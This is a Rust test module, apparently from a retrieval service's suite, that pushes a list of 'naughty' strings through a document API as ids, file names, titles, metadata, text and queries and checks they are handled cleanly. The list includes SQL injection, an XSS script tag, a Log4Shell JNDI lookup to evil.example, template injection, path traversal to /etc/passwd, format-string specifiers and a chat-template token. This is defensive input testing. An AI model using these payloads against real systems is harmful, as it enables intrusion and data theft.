//! Strings that break software, as ids, titles, metadata and text.
//!
//! `RAGFLARE_NAUGHTY` names a file with more of them, a JSON list.

use crate::{World, encoded};
use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};

/// Bytes of a title at most.
const MAX_TITLE: usize = 512;

/// One of each sort.
const STRINGS: [&str; 27] = [
    "null",
    "NaN",
    "1/0",
    "0x0",
    "-9223372036854775808/-1",
    "' OR 1=1; --",
    "\"; DROP TABLE chunks; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "C:\\NUL",
    "%s%n%x",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "Z\u{351}\u{36b}a\u{343}l\u{369}go\u{33d}",
    "\u{202e}txt.exe\u{202c}",
    "\u{200b}\u{feff}",
    "ثم نفس سقطت",
    "田中さんにあげて下さい",
    "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
    "İıſß",
    "a\u{0}b",
    "\u{7f}\u{80}\u{9f}",
    "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}\u{e}\u{f}\u{10}\u{1a}\u{1b}\u{1f}",
    "=1+2\";=1+2",
    "[S1] [S99]",
    "<|eot_id|>",
];

pub(crate) fn strings_do_no_harm(world: &World) -> Result<()> {
    let client = world.admin.tenant("naughty")?;
    let mut strings: Vec<String> = STRINGS.map(str::to_owned).to_vec();
    if let Some(path) = std::env::var_os("RAGFLARE_NAUGHTY") {
        let more: Vec<String> = serde_json::from_slice(&std::fs::read(path)?)?;
        strings.extend(more);
    }
    let (mut ids, mut titles, mut texts) = (0, 0, 0);
    for (number, string) in strings.iter().enumerate() {
        // As an id: taken as it is, or refused with a reason.
        let reply = client.put(&encoded(string), "The lamp is lit at dusk.")?;
        match reply.status {
            202 => {
                ids += 1;
                ensure!(reply.expect(202)?["id"] == string.as_str(), "{string:?}");
            }
            // A path of dots, or none at all, is another route.
            400 | 404 | 405 => drop(reply.error(reply.status)?),
            status => anyhow::bail!("{string:?} as an id: {status} {}", reply.text()),
        }
        // As a file's name: there is an id for each.
        let named = client.form("/v1/documents", &[("file", string, "text/plain", b"The lamp is lit.")])?;
        ensure!(
            matches!(named.status, 200 | 202 | 400),
            "{string:?} as a name: {} {}",
            named.status,
            named.text()
        );
        // As title, metadata and text.
        let id = format!("string-{number}");
        let metadata = json!({"note": string, "category": string.chars().take(8).collect::<String>()});
        let (title, metadata_text) = (encoded(string), encoded(&metadata.to_string()));
        let text = format!("Before it.\n\n{string}\n\nAfter it, {id}.");
        let reply = client.put(&format!("{id}?title={title}&metadata={metadata_text}"), &text)?;
        if reply.status == 400 {
            let too_long = string.len() > MAX_TITLE || metadata.to_string().len() > 2048;
            ensure!(too_long, "{string:?}: {}", reply.text());
            client.put(&id, &text)?.expect(202)?;
        } else {
            let shown = reply.expect(202)?;
            titles += 1;
            let expected = if string.is_empty() { Value::Null } else { string.as_str().into() };
            ensure!(shown["title"] == expected, "{string:?}: {shown}");
            ensure!(shown["metadata"] == metadata, "{string:?}: {shown}");
        }
    }
    for (number, string) in strings.iter().enumerate() {
        let id = format!("string-{number}");
        let document = client.wait(&id)?;
        ensure!(
            matches!(document["status"].as_str(), Some("searchable" | "indexed")),
            "{string:?}: {document}"
        );
        let text = client.get(&format!("/v1/documents/{id}/text"))?.text();
        ensure!(
            text == format!("Before it.\n\n{string}\n\nAfter it, {id}.").replace('\0', " "),
            "{string:?}: {text:?}"
        );
        texts += 1;
        // As a query.
        let body = json!({"query": string, "mode": "keyword"});
        let reply = client.post("/v1/search", &body)?;
        ensure!(matches!(reply.status, 200 | 400), "{string:?} as a query: {}", reply.text());
    }
    let listed = client.get("/v1/documents?limit=1")?.expect(200)?;
    listed["documents"].as_array().context("no documents")?;
    eprintln!("of {} strings {ids} are ids, {titles} titles and metadata, {texts} texts", strings.len());
    Ok(())
}
